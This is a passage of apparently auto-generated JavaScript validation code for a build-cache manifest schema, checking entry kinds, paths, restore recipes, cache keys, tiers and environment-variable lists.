parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate33.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(!(validate24(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate24.errors : vErrors.concat(validate24.errors);errors = vErrors.length;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("link" !== data.kind){const err0 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/const",keyword:"const",params:{allowedValue: "link"},message:"must be equal to constant"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}if(data.expect !== undefined){let data1 = data.expect;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.target === undefined){const err1 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/required",keyword:"required",params:{missingProperty: "target"},message:"must have required property '"+"target"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}for(const key0 in data1){if(!(key0 === "target")){const err2 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}if(data1.target !== undefined){let data2 = data1.target;if(typeof data2 === "string"){if(manifest_validator_func1(data2) > 4096){const err3 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(manifest_validator_func1(data2) < 1){const err4 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}else {const err5 = {instancePath:instancePath+"/expect/target",schemaPath:"#/properties/expect/properties/target/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}}}else {const err6 = {instancePath:instancePath+"/expect",schemaPath:"#/properties/expect/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}for(const key1 in data){if(((((((((((((key1 !== "kind") && (key1 !== "expect")) && (key1 !== "id")) && (key1 !== "path")) && (key1 !== "tier")) && (key1 !== "needs")) && (key1 !== "restore")) && (key1 !== "timeout_s")) && (key1 !== "env")) && (key1 !== "secret_env")) && (key1 !== "smoke")) && (key1 !== "smoke_timeout_s")) && (key1 !== "note")){const err7 = {instancePath,schemaPath:"#/unevaluatedProperties",keyword:"unevaluatedProperties",params:{unevaluatedProperty: key1},message:"must NOT have unevaluated properties"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}}validate33.errors = vErrors;return errors === 0;}validate33.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};function validate22(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate22.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}const _errs2 = errors;let valid1 = true;const _errs3 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("file" !== data.kind){const err0 = {};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}}}var _valid0 = _errs3 === errors;errors = _errs2;if(vErrors !== null){if(_errs2){vErrors.length = _errs2;}else {vErrors = null;}}if(_valid0){const _errs5 = errors;if(!(validate23(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate23.errors : vErrors.concat(validate23.errors);errors = vErrors.length;}var _valid0 = _errs5 === errors;valid1 = _valid0;if(valid1){var props0 = true;}}if(!valid1){const err1 = {instancePath,schemaPath:"#/allOf/0/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}const _errs7 = errors;let valid3 = true;const _errs8 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("blob" !== data.kind){const err2 = {};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}}var _valid1 = _errs8 === errors;errors = _errs7;if(vErrors !== null){if(_errs7){vErrors.length = _errs7;}else {vErrors = null;}}if(_valid1){const _errs10 = errors;if(!(validate27(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate27.errors : vErrors.concat(validate27.errors);errors = vErrors.length;}var _valid1 = _errs10 === errors;valid3 = _valid1;if(valid3){var props1 = true;}}if(!valid3){const err3 = {instancePath,schemaPath:"#/allOf/1/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(props0 !== true && props1 !== undefined){if(props1 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props1);}}const _errs12 = errors;let valid5 = true;const _errs13 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("tree" !== data.kind){const err4 = {};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}}}var _valid2 = _errs13 === errors;errors = _errs12;if(vErrors !== null){if(_errs12){vErrors.length = _errs12;}else {vErrors = null;}}if(_valid2){const _errs15 = errors;if(!(validate30(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate30.errors : vErrors.concat(validate30.errors);errors = vErrors.length;}var _valid2 = _errs15 === errors;valid5 = _valid2;if(valid5){var props2 = true;}}if(!valid5){const err5 = {instancePath,schemaPath:"#/allOf/2/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(props0 !== true && props2 !== undefined){if(props2 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props2);}}const _errs17 = errors;let valid7 = true;const _errs18 = errors;if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind !== undefined){if("link" !== data.kind){const err6 = {};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}}var _valid3 = _errs18 === errors;errors = _errs17;if(vErrors !== null){if(_errs17){vErrors.length = _errs17;}else {vErrors = null;}}if(_valid3){const _errs20 = errors;if(!(validate33(data, {instancePath,parentData,parentDataProperty,rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate33.errors : vErrors.concat(validate33.errors);errors = vErrors.length;}var _valid3 = _errs20 === errors;valid7 = _valid3;if(valid7){var props3 = true;}}if(!valid7){const err7 = {instancePath,schemaPath:"#/allOf/3/if",keyword:"if",params:{failingKeyword: "then"},message:"must match \"then\" schema"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}if(props0 !== true && props3 !== undefined){if(props3 === true){props0 = true;}else {props0 = props0 || {};Object.assign(props0, props3);}}if(data && typeof data == "object" && !Array.isArray(data)){if(data.kind === undefined){const err8 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "kind"},message:"must have required property '"+"kind"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}if(props0 !== true){props0 = props0 || {};props0.kind = true;}if(data.kind !== undefined){let data4 = data.kind;if(!((((data4 === "file") || (data4 === "blob")) || (data4 === "tree")) || (data4 === "link"))){const err9 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/enum",keyword:"enum",params:{allowedValues: schema33.properties.kind.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}}else {const err10 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}validate22.errors = vErrors;evaluated0.props = props0;return errors === 0;}validate22.evaluated = {"dynamicProps":true,"dynamicItems":false};const schema59 = {"type":"object","additionalProperties":false,"required":["id","kind","path","tier","needs","key"],"properties":{"id":{"$ref":"#/$defs/id"},"kind":{"enum":["file","blob","tree"]},"path":{"$ref":"#/$defs/relpath"},"tier":{"$ref":"#/$defs/common/properties/tier"},"needs":{"$ref":"#/$defs/common/properties/needs"},"key":{"description":"Key template: literal text ([A-Za-z0-9._+-]) and {os}, {arch}, {libc}, {node} (Node's major version) and {hash:PATH[,PATH...]} (sha256 of workspace files, e.g. the lockfile). A seal is kept per expanded key.","type":"string","minLength":1,"maxLength":512},"ignore":{"$ref":"#/$defs/treeEntry/properties/ignore"},"restore":{"$ref":"#/$defs/common/properties/restore"},"timeout_s":{"$ref":"#/$defs/common/properties/timeout_s"},"env":{"$ref":"#/$defs/common/properties/env"},"secret_env":{"$ref":"#/$defs/common/properties/secret_env"},"smoke":{"$ref":"#/$defs/common/properties/smoke"},"smoke_timeout_s":{"$ref":"#/$defs/common/properties/smoke_timeout_s"},"note":{"$ref":"#/$defs/common/properties/note"}}};const schema62 = {"description":"Restore order: 0 credentials/shims, 1 scripts, 2 source trees, 3 large downloads, 4 build outputs.","type":"integer","minimum":0,"maximum":4};const schema65 = {"description":"Directory or file names, or globs relative to the tree, left out of the walk.","type":"array","maxItems":256,"uniqueItems":true,"items":{"type":"string","minLength":1,"maxLength":1024}};const schema68 = {"type":"integer","minimum":1,"maximum":86400};const schema69 = {"description":"Names of variables passed from the caller's environment to the recipe (besides PATH, HOME, LANG, TMPDIR).","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}};const schema70 = {"description":"Like env, and their values are scrubbed from recipe output and reports.","type":"array","maxItems":64,"uniqueItems":true,"items":{"type":"string","pattern":"^[A-Za-z_][A-Za-z0-9_]{0,127}$"}};const schema71 = {"type":"string","minLength":1,"maxLength":65536};const schema72 = {"description":"Seconds the smoke command may run (default 60).","type":"integer","minimum":1,"maximum":86400};const schema73 = {"type":"string","maxLength":4096};const schema63 = {"type":"array","maxItems":256,"uniqueItems":true,"items":{"$ref":"#/$defs/id"}};function validate38(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate38.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(Array.isArray(data)){if(data.length > 256){const err0 = {instancePath,schemaPath:"#/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}const len0 = data.length;for(let i0=0; i0<len0; i0++){let data0 = data[i0];if(typeof data0 === "string"){if(!manifest_validator_pattern7.test(data0)){const err1 = {instancePath:instancePath+"/" + i0,schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}}else {const err2 = {instancePath:instancePath+"/" + i0,schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}}let i1 = data.length;let j0;if(i1 > 1){outer0:for(;i1--;){for(j0 = i1; j0--;){if(manifest_validator_func0(data[i1], data[j0])){const err3 = {instancePath,schemaPath:"#/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;break outer0;}}}}}else {const err4 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}validate38.errors = vErrors;return errors === 0;}validate38.evaluated = {"items":true,"dynamicProps":false,"dynamicItems":false};const schema66 = {"description":"How to recreate the entry: a shell recipe, or restore sources tried in order (recipes, and Actions caches) until the entry verifies.","oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"type":"array","minItems":1,"maxItems":8,"items":{"oneOf":[{"type":"string","minLength":1,"maxLength":65536},{"$ref":"#/$defs/cacheSource"}]}}]};function validate40(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate40.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}const _errs0 = errors;let valid0 = false;let passing0 = null;const _errs1 = errors;if(typeof data === "string"){if(manifest_validator_func1(data) > 65536){const err0 = {instancePath,schemaPath:"#/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(manifest_validator_func1(data) < 1){const err1 = {instancePath,schemaPath:"#/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}}else {const err2 = {instancePath,schemaPath:"#/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}var _valid0 = _errs1 === errors;if(_valid0){valid0 = true;passing0 = 0;}const _errs3 = errors;if(Array.isArray(data)){if(data.length > 8){const err3 = {instancePath,schemaPath:"#/oneOf/1/maxItems",keyword:"maxItems",params:{limit: 8},message:"must NOT have more than 8 items"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data.length < 1){const err4 = {instancePath,schemaPath:"#/oneOf/1/minItems",keyword:"minItems",params:{limit: 1},message:"must NOT have fewer than 1 items"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}const len0 = data.length;for(let i0=0; i0<len0; i0++){let data0 = data[i0];const _errs6 = errors;let valid3 = false;let passing1 = null;const _errs7 = errors;if(typeof data0 === "string"){if(manifest_validator_func1(data0) > 65536){const err5 = {instancePath:instancePath+"/" + i0,schemaPath:"#/oneOf/1/items/oneOf/0/maxLength",keyword:"maxLength",params:{limit: 65536},message:"must NOT have more than 65536 characters"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}if(manifest_validator_func1(data0) < 1){const err6 = {instancePath:instancePath+"/" + i0,schemaPath:"#/oneOf/1/items/oneOf/0/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}else {const err7 = {instancePath:instancePath+"/" + i0,schemaPath:"#/oneOf/1/items/oneOf/0/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}var _valid1 = _errs7 === errors;if(_valid1){valid3 = true;passing1 = 0;}const _errs9 = errors;if(data0 && typeof data0 == "object" && !Array.isArray(data0)){if(data0.cache === undefined){const err8 = {instancePath:instancePath+"/" + i0,schemaPath:"#/$defs/cacheSource/required",keyword:"required",params:{missingProperty: "cache"},message:"must have required property '"+"cache"+"'"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}for(const key0 in data0){if(!(key0 === "cache")){const err9 = {instancePath:instancePath+"/" + i0,schemaPath:"#/$defs/cacheSource/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}if(data0.cache !== undefined){let data1 = data0.cache;if(data1 && typeof data1 == "object" && !Array.isArray(data1)){if(data1.key === undefined){const err10 = {instancePath:instancePath+"/" + i0+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/required",keyword:"required",params:{missingProperty: "key"},message:"must have required property '"+"key"+"'"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}for(const key1 in data1){if(!((key1 === "key") || (key1 === "restore-keys"))){const err11 = {instancePath:instancePath+"/" + i0+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key1},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}if(data1.key !== undefined){let data2 = data1.key;if(typeof data2 === "string"){if(manifest_validator_func1(data2) > 512){const err12 = {instancePath:instancePath+"/" + i0+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}if(manifest_validator_func1(data2) < 1){const err13 = {instancePath:instancePath+"/" + i0+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}}else {const err14 = {instancePath:instancePath+"/" + i0+"/cache/key",schemaPath:"#/$defs/cacheSource/properties/cache/properties/key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}}if(data1["restore-keys"] !== undefined){let data3 = data1["restore-keys"];if(Array.isArray(data3)){if(data3.length > 16){const err15 = {instancePath:instancePath+"/" + i0+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/maxItems",keyword:"maxItems",params:{limit: 16},message:"must NOT have more than 16 items"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}const len1 = data3.length;for(let i1=0; i1<len1; i1++){let data4 = data3[i1];if(typeof data4 === "string"){if(manifest_validator_func1(data4) > 512){const err16 = {instancePath:instancePath+"/" + i0+"/cache/restore-keys/" + i1,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}if(manifest_validator_func1(data4) < 1){const err17 = {instancePath:instancePath+"/" + i0+"/cache/restore-keys/" + i1,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}}else {const err18 = {instancePath:instancePath+"/" + i0+"/cache/restore-keys/" + i1,schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}}else {const err19 = {instancePath:instancePath+"/" + i0+"/cache/restore-keys",schemaPath:"#/$defs/cacheSource/properties/cache/properties/restore-keys/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}}}else {const err20 = {instancePath:instancePath+"/" + i0+"/cache",schemaPath:"#/$defs/cacheSource/properties/cache/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}}}else {const err21 = {instancePath:instancePath+"/" + i0,schemaPath:"#/$defs/cacheSource/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}var _valid1 = _errs9 === errors;if(_valid1 && valid3){valid3 = false;passing1 = [passing1, 1];}else {if(_valid1){valid3 = true;passing1 = 1;}}if(!valid3){const err22 = {instancePath:instancePath+"/" + i0,schemaPath:"#/oneOf/1/items/oneOf",keyword:"oneOf",params:{passingSchemas: passing1},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}else {errors = _errs6;if(vErrors !== null){if(_errs6){vErrors.length = _errs6;}else {vErrors = null;}}}}}else {const err23 = {instancePath,schemaPath:"#/oneOf/1/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;}var _valid0 = _errs3 === errors;if(_valid0 && valid0){valid0 = false;passing0 = [passing0, 1];}else {if(_valid0){valid0 = true;passing0 = 1;var items0 = true;}}if(!valid0){const err24 = {instancePath,schemaPath:"#/oneOf",keyword:"oneOf",params:{passingSchemas: passing0},message:"must match exactly one schema in oneOf"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}else {errors = _errs0;if(vErrors !== null){if(_errs0){vErrors.length = _errs0;}else {vErrors = null;}}}validate40.errors = vErrors;evaluated0.items = items0;return errors === 0;}validate40.evaluated = {"dynamicProps":false,"dynamicItems":true};function validate37(data, {instancePath="", parentData, parentDataProperty, rootData=data, dynamicAnchors={}}={}){let vErrors = null;let errors = 0;const evaluated0 = validate37.evaluated;if(evaluated0.dynamicProps){evaluated0.props = undefined;}if(evaluated0.dynamicItems){evaluated0.items = undefined;}if(data && typeof data == "object" && !Array.isArray(data)){if(data.id === undefined){const err0 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "id"},message:"must have required property '"+"id"+"'"};if(vErrors === null){vErrors = [err0];}else {vErrors.push(err0);}errors++;}if(data.kind === undefined){const err1 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "kind"},message:"must have required property '"+"kind"+"'"};if(vErrors === null){vErrors = [err1];}else {vErrors.push(err1);}errors++;}if(data.path === undefined){const err2 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "path"},message:"must have required property '"+"path"+"'"};if(vErrors === null){vErrors = [err2];}else {vErrors.push(err2);}errors++;}if(data.tier === undefined){const err3 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "tier"},message:"must have required property '"+"tier"+"'"};if(vErrors === null){vErrors = [err3];}else {vErrors.push(err3);}errors++;}if(data.needs === undefined){const err4 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "needs"},message:"must have required property '"+"needs"+"'"};if(vErrors === null){vErrors = [err4];}else {vErrors.push(err4);}errors++;}if(data.key === undefined){const err5 = {instancePath,schemaPath:"#/required",keyword:"required",params:{missingProperty: "key"},message:"must have required property '"+"key"+"'"};if(vErrors === null){vErrors = [err5];}else {vErrors.push(err5);}errors++;}for(const key0 in data){if(!(func2.call(schema59.properties, key0))){const err6 = {instancePath,schemaPath:"#/additionalProperties",keyword:"additionalProperties",params:{additionalProperty: key0},message:"must NOT have additional properties"};if(vErrors === null){vErrors = [err6];}else {vErrors.push(err6);}errors++;}}if(data.id !== undefined){let data0 = data.id;if(typeof data0 === "string"){if(!manifest_validator_pattern7.test(data0)){const err7 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9._-]{1,128}$"},message:"must match pattern \""+"^[A-Za-z0-9._-]{1,128}$"+"\""};if(vErrors === null){vErrors = [err7];}else {vErrors.push(err7);}errors++;}}else {const err8 = {instancePath:instancePath+"/id",schemaPath:"#/$defs/id/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err8];}else {vErrors.push(err8);}errors++;}}if(data.kind !== undefined){let data1 = data.kind;if(!(((data1 === "file") || (data1 === "blob")) || (data1 === "tree"))){const err9 = {instancePath:instancePath+"/kind",schemaPath:"#/properties/kind/enum",keyword:"enum",params:{allowedValues: schema59.properties.kind.enum},message:"must be equal to one of the allowed values"};if(vErrors === null){vErrors = [err9];}else {vErrors.push(err9);}errors++;}}if(data.path !== undefined){let data2 = data.path;if(typeof data2 === "string"){if(manifest_validator_func1(data2) > 4096){const err10 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/maxLength",keyword:"maxLength",params:{limit: 4096},message:"must NOT have more than 4096 characters"};if(vErrors === null){vErrors = [err10];}else {vErrors.push(err10);}errors++;}if(manifest_validator_func1(data2) < 1){const err11 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err11];}else {vErrors.push(err11);}errors++;}}else {const err12 = {instancePath:instancePath+"/path",schemaPath:"#/$defs/relpath/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err12];}else {vErrors.push(err12);}errors++;}}if(data.tier !== undefined){let data3 = data.tier;if(!(((typeof data3 == "number") && (!(data3 % 1) && !isNaN(data3))) && (isFinite(data3)))){const err13 = {instancePath:instancePath+"/tier",schemaPath:"#/$defs/common/properties/tier/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err13];}else {vErrors.push(err13);}errors++;}if((typeof data3 == "number") && (isFinite(data3))){if(data3 > 4 || isNaN(data3)){const err14 = {instancePath:instancePath+"/tier",schemaPath:"#/$defs/common/properties/tier/maximum",keyword:"maximum",params:{comparison: "<=", limit: 4},message:"must be <= 4"};if(vErrors === null){vErrors = [err14];}else {vErrors.push(err14);}errors++;}if(data3 < 0 || isNaN(data3)){const err15 = {instancePath:instancePath+"/tier",schemaPath:"#/$defs/common/properties/tier/minimum",keyword:"minimum",params:{comparison: ">=", limit: 0},message:"must be >= 0"};if(vErrors === null){vErrors = [err15];}else {vErrors.push(err15);}errors++;}}}if(data.needs !== undefined){if(!(validate38(data.needs, {instancePath:instancePath+"/needs",parentData:data,parentDataProperty:"needs",rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate38.errors : vErrors.concat(validate38.errors);errors = vErrors.length;}}if(data.key !== undefined){let data5 = data.key;if(typeof data5 === "string"){if(manifest_validator_func1(data5) > 512){const err16 = {instancePath:instancePath+"/key",schemaPath:"#/properties/key/maxLength",keyword:"maxLength",params:{limit: 512},message:"must NOT have more than 512 characters"};if(vErrors === null){vErrors = [err16];}else {vErrors.push(err16);}errors++;}if(manifest_validator_func1(data5) < 1){const err17 = {instancePath:instancePath+"/key",schemaPath:"#/properties/key/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err17];}else {vErrors.push(err17);}errors++;}}else {const err18 = {instancePath:instancePath+"/key",schemaPath:"#/properties/key/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err18];}else {vErrors.push(err18);}errors++;}}if(data.ignore !== undefined){let data6 = data.ignore;if(Array.isArray(data6)){if(data6.length > 256){const err19 = {instancePath:instancePath+"/ignore",schemaPath:"#/$defs/treeEntry/properties/ignore/maxItems",keyword:"maxItems",params:{limit: 256},message:"must NOT have more than 256 items"};if(vErrors === null){vErrors = [err19];}else {vErrors.push(err19);}errors++;}const len0 = data6.length;for(let i0=0; i0<len0; i0++){let data7 = data6[i0];if(typeof data7 === "string"){if(manifest_validator_func1(data7) > 1024){const err20 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/$defs/treeEntry/properties/ignore/items/maxLength",keyword:"maxLength",params:{limit: 1024},message:"must NOT have more than 1024 characters"};if(vErrors === null){vErrors = [err20];}else {vErrors.push(err20);}errors++;}if(manifest_validator_func1(data7) < 1){const err21 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/$defs/treeEntry/properties/ignore/items/minLength",keyword:"minLength",params:{limit: 1},message:"must NOT have fewer than 1 characters"};if(vErrors === null){vErrors = [err21];}else {vErrors.push(err21);}errors++;}}else {const err22 = {instancePath:instancePath+"/ignore/" + i0,schemaPath:"#/$defs/treeEntry/properties/ignore/items/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err22];}else {vErrors.push(err22);}errors++;}}let i1 = data6.length;let j0;if(i1 > 1){const indices0 = {};for(;i1--;){let item0 = data6[i1];if(typeof item0 !== "string"){continue;}if(typeof indices0[item0] == "number"){j0 = indices0[item0];const err23 = {instancePath:instancePath+"/ignore",schemaPath:"#/$defs/treeEntry/properties/ignore/uniqueItems",keyword:"uniqueItems",params:{i: i1, j: j0},message:"must NOT have duplicate items (items ## "+j0+" and "+i1+" are identical)"};if(vErrors === null){vErrors = [err23];}else {vErrors.push(err23);}errors++;break;}indices0[item0] = i1;}}}else {const err24 = {instancePath:instancePath+"/ignore",schemaPath:"#/$defs/treeEntry/properties/ignore/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err24];}else {vErrors.push(err24);}errors++;}}if(data.restore !== undefined){if(!(validate40(data.restore, {instancePath:instancePath+"/restore",parentData:data,parentDataProperty:"restore",rootData,dynamicAnchors}))){vErrors = vErrors === null ? validate40.errors : vErrors.concat(validate40.errors);errors = vErrors.length;}}if(data.timeout_s !== undefined){let data9 = data.timeout_s;if(!(((typeof data9 == "number") && (!(data9 % 1) && !isNaN(data9))) && (isFinite(data9)))){const err25 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/$defs/common/properties/timeout_s/type",keyword:"type",params:{type: "integer"},message:"must be integer"};if(vErrors === null){vErrors = [err25];}else {vErrors.push(err25);}errors++;}if((typeof data9 == "number") && (isFinite(data9))){if(data9 > 86400 || isNaN(data9)){const err26 = {instancePath:instancePath+"/timeout_s",schemaPath:"#/$defs/common/properties/timeout_s/maximum",keyword:"maximum",params:{comparison: "<=", limit: 86400},message:"must be <= 86400"};if(vErrors === null){vErrors = [err26];}else {vErrors.push(err26);}errors++;}if(data9 < 1 || isNaN(data9)){const err27 = 